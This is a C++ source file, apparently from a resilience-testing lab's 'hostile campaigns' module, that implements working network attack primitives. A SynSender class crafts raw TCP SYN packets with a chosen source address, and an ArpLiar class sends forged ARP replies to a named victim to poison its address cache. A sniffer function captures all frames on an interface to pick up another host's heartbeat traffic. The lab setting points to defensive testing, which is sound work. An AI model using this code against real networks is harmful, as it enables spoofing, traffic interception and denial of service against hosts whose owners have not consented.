#include "lab/campaigns/hostile/Frames.h"

#include <cstring>
#include <optional>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "lab/core/Wait.h"

namespace velarix::lab
{

namespace
{

struct SynPacket
{
	iphdr internet{};
	tcphdr transport{};
};

/// What the checksum of TCP covers besides the segment.
struct PseudoHeader
{
	in_addr_t from = 0;
	in_addr_t to = 0;
	std::uint8_t zero = 0;
	std::uint8_t protocol = IPPROTO_TCP;
	std::uint16_t length = 0;
	tcphdr transport{};
};

std::uint16_t checksum(const PseudoHeader& covered)
{
	std::array<std::uint16_t, sizeof(PseudoHeader) / 2> words{};
	std::memcpy(words.data(), &covered, sizeof covered);
	std::uint32_t sum = 0;
	for (const std::uint16_t word : words)
	{
		sum += word;
	}
	sum = (sum >> 16U) + (sum & 0xffffU);
	sum += sum >> 16U;
	return static_cast<std::uint16_t>(~sum);
}

struct ArpFrame
{
	ether_header ethernet{};
	arphdr head{};
	std::array<std::uint8_t, 6> senderHardware{};
	std::array<std::uint8_t, 4> sender{};
	std::array<std::uint8_t, 6> targetHardware{};
	std::array<std::uint8_t, 4> target{};
} __attribute__((packed));

std::array<std::uint8_t, 4> bytesOf(const std::string& address)
{
	std::array<std::uint8_t, 4> bytes{};
	::inet_pton(AF_INET, address.c_str(), bytes.data());
	return bytes;
}

/// @return what a TCP segment over IPv4 carries; empty for any other frame
std::string payloadOf(const std::string& frame, const std::string& from)
{
	constexpr std::size_t internetAt = sizeof(ether_header);
	if (frame.size() < internetAt + sizeof(iphdr) || static_cast<std::uint8_t>(frame[internetAt + 9]) != IPPROTO_TCP ||
	    std::memcmp(frame.data() + internetAt + 12, bytesOf(from).data(), 4) != 0)
	{
		return {};
	}
	const std::size_t transportAt = internetAt + static_cast<std::size_t>(frame[internetAt] & 15) * 4;
	if (frame.size() < transportAt + sizeof(tcphdr))
	{
		return {};
	}
	const std::size_t begin = transportAt + static_cast<std::size_t>((frame[transportAt + 12] >> 4) & 15) * 4;
	return begin < frame.size() ? frame.substr(begin) : std::string();
}

using HardwareAddress = std::array<std::uint8_t, 6>;

/// Makes the kernel ask for the address, and reads what it was told.
std::optional<HardwareAddress> hardwareOf(const std::string& card, const std::string& address)
{
	const Descriptor socket(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
	const sockaddr_in to = socketAddress(address, 9);
	::sendto(socket.get(), "", 0, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
	HardwareAddress found{};
	const bool answered = waitFor(
	    [&]
	    {
		    arpreq asked{};
		    std::memcpy(&asked.arp_pa, &to, sizeof to);
		    std::strncpy(asked.arp_dev, card.c_str(), sizeof asked.arp_dev - 1);
		    const bool told = ::ioctl(socket.get(), SIOCGARP, &asked) == 0 && (asked.arp_flags & ATF_COM) != 0;
		    std::memcpy(found.data(), asked.arp_ha.sa_data, found.size());
		    return told;
	    },
	    Millis(5000), "an answer about " + address);
	return answered ? std::optional(found) : std::nullopt;
}

} // namespace

SynSender::SynSender() : m_socket(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW))
{
	if (!m_socket)
	{
		throwErrno("no raw socket");
	}
}

void SynSender::send(const sockaddr_in& to, const sockaddr_in& from, AttackTally& tally)
{
	SynPacket packet;
	packet.internet.version = 4;
	packet.internet.ihl = sizeof(iphdr) / 4;
	packet.internet.ttl = 64;
	packet.internet.protocol = IPPROTO_TCP;
	packet.internet.saddr = from.sin_addr.s_addr;
	packet.internet.daddr = to.sin_addr.s_addr;
	packet.transport.th_sport = from.sin_port;
	packet.transport.th_dport = to.sin_port;
	packet.transport.th_seq = htonl(static_cast<std::uint32_t>(tally.tries.load()) * 2654435761U);
	packet.transport.th_off = sizeof(tcphdr) / 4;
	packet.transport.th_flags = TH_SYN;
	packet.transport.th_win = htons(1024);
	PseudoHeader covered;
	covered.from = packet.internet.saddr;
	covered.to = packet.internet.daddr;
	covered.length = htons(sizeof(tcphdr));
	covered.transport = packet.transport;
	packet.transport.th_sum = checksum(covered);
	::sendto(m_socket.get(), &packet, sizeof packet, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
	++tally.tries;
}

ArpLiar::ArpLiar(const std::string& card, const std::string& victim)
    : m_socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0)),
      m_index(static_cast<int>(::if_nametoindex(card.c_str()))), m_victim(victim)
{
	ifreq asked{};
	std::strncpy(asked.ifr_name, card.c_str(), IFNAMSIZ - 1);
	if (!m_socket || ::ioctl(m_socket.get(), SIOCGIFHWADDR, &asked) != 0)
	{
		throwErrno("no frames can be sent on " + card);
	}
	std::memcpy(m_own.data(), asked.ifr_hwaddr.sa_data, m_own.size());
	const std::optional<HardwareAddress> found = hardwareOf(card, victim);
	if (!found)
	{
		throw LabError("nobody answers for " + victim);
	}
	m_theirs = *found;
}

void ArpLiar::claim(const std::string& address, AttackTally& tally)
{
	ArpFrame frame;
	std::memcpy(frame.ethernet.ether_dhost, m_theirs.data(), m_theirs.size());
	std::memcpy(frame.ethernet.ether_shost, m_own.data(), m_own.size());
	frame.ethernet.ether_type = htons(ETHERTYPE_ARP);
	frame.head.ar_hrd = htons(ARPHRD_ETHER);
	frame.head.ar_pro = htons(ETHERTYPE_IP);
	frame.head.ar_hln = 6;
	frame.head.ar_pln = 4;
	frame.head.ar_op = htons(ARPOP_REPLY);
	frame.senderHardware = m_own;
	frame.sender = bytesOf(address);
	frame.targetHardware = m_theirs;
	frame.target = bytesOf(m_victim);
	sockaddr_ll to{};
	to.sll_family = AF_PACKET;
	to.sll_ifindex = m_index;
	to.sll_halen = static_cast<unsigned char>(m_theirs.size());
	std::memcpy(to.sll_addr, m_theirs.data(), m_theirs.size());
	::sendto(m_socket.get(), &frame, sizeof frame, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
	++tally.tries;
}

std::string overhearHeartbeat(const std::string& card, const std::string& from, Millis limit)
{
	const Descriptor socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)));
	sockaddr_ll place{};
	place.sll_family = AF_PACKET;
	place.sll_protocol = htons(ETH_P_ALL);
	place.sll_ifindex = static_cast<int>(::if_nametoindex(card.c_str()));
	if (!socket || ::bind(socket.get(), reinterpret_cast<const sockaddr*>(&place), sizeof place) != 0)
	{
		throwErrno("nobody can listen on " + card);
	}
	const LabClock clock;
	while (clock.now() < limit)
	{
		pollfd watched{socket.get(), POLLIN, 0};
		if (::poll(&watched, 1, 100) != 1)
		{
			continue;
		}
		std::string frame(2048, '\0');
		const ssize_t count = ::recv(socket.get(), frame.data(), frame.size(), MSG_DONTWAIT);
		frame.resize(count > 0 ? static_cast<std::size_t>(count) : 0);
		std::string words = payloadOf(frame, from);
		if (words.starts_with("/process/"))
		{
			return words;
		}
	}
	return {};
}

} // namespace velarix::lab
